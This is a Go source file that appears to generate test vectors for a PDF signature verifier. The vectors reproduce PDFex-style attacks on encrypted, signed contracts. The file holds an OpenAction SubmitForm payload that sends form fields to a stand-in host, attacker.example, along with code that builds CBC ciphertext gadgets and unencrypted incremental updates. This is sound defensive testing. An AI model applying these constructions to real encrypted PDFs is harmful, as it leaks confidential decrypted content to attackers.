package vectors

import (
	"bytes"
	"fmt"

	"github.com/inkan-go/inkan/cms"
	"github.com/inkan-go/inkan/internal/testpdf"
	"github.com/inkan-go/inkan/internal/testpki"
	"github.com/inkan-go/inkan/verify"
)

// submits is a catalog that sends the form away when the document is opened.
const submits = "/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://attacker.example/)>>/Fields[5 0 R]/Flags 4>>"

// exfiltrations are the constructions of "Practical Decryption exFiltration"
// (attacks.md §7): parts in clear that send away what a reader decrypts, put into
// a signed file by somebody without a password, or into one before it was signed.
func exfiltrations() []*Vector {
	later := earlier
	later.Changes, later.Indication, later.SubIndication = verify.ChangesOther, verify.TotalFailed, verify.FormatFailure
	later.Any = []string{"structure"}
	var all []*Vector
	for i, h := range []handler{handlers()[2], handlers()[4]} { // AES, 128 and 256 bits
		for k, form := range testpdf.Forms {
			add := func(what, source string, e Expect, build func(m *Maker) ([]byte, error)) {
				all = append(all, &Vector{File: fmt.Sprintf("pdfex-%s-%s-%s.pdf", what, h.name, form), Source: source + " (" + form.String() + ")",
					Passwords: h.passwords(), Expect: e, build: build})
			}
			attack := func(apply func(p placed) []byte) func(m *Maker) ([]byte, error) {
				return func(m *Maker) ([]byte, error) {
					data, err := h.signed(m, form, userPassword)
					if err != nil {
						return nil, err
					}
					return apply(place(data)), nil
				}
			}
			add("direct", "an encrypted and signed contract, and an update in clear that submits the form", failed(later), attack(func(p placed) []byte {
				return inClear(p, form, testpdf.Object{Number: 1, Body: "<</Type/Catalog/Pages 2 0 R/AcroForm 3 0 R" + submits + ">>", Plain: true})
			}))
			add("gadget", "an encrypted and signed contract, and an update whose content stream is made of blocks of its ciphertext", failed(later), attack(func(p placed) []byte {
				at := testpdf.MustIndex(p.data, "stream\r\n", testpdf.MustIndex(p.data, "\n11 0 obj", 0)) + len("stream\r\n")
				blocks := bytes.Clone(p.data[at : at+48])
				blocks[0] ^= 'B' ^ 'x' // a known first letter becomes another one
				return inClear(p, form, testpdf.Object{Number: 11, Body: "<<>>", Data: append(blocks, p.data[at+16:at+48]...)})
			}))
			if i == 0 && k == 0 {
				mixed := h
				mixed.encryption.Mixed = true
				e := allPassed(passed)
				e.Findings = []string{"encryption.mixed"}
				add("prepared", "a contract whose streams are in clear and whose strings are not, which submits its form, signed as it is", e,
					func(m *Maker) ([]byte, error) {
						f := testpdf.Contract(1, form)
						f.Objects[0].Body = "<</Type/Catalog/Pages 2 0 R/AcroForm 3 0 R" + submits + ">>"
						return m.sign(f.Encrypted(mixed.encryption).Bytes(), userPassword, testpki.RSA2048, cms.Algorithm{}, nil)
					})
			}
		}
	}
	return all
}

// inClear appends an update to an encrypted file without encrypting it.
func inClear(p placed, form testpdf.Form, objects ...testpdf.Object) []byte {
	return testpdf.File{Form: form, Objects: objects,
		Trailer: "/Root 1 0 R/Info 8 0 R/Encrypt 40 0 R/ID[<00112233445566778899AABBCCDDEEFF><00112233445566778899AABBCCDDEEFF>]"}.Append(p.data)
}
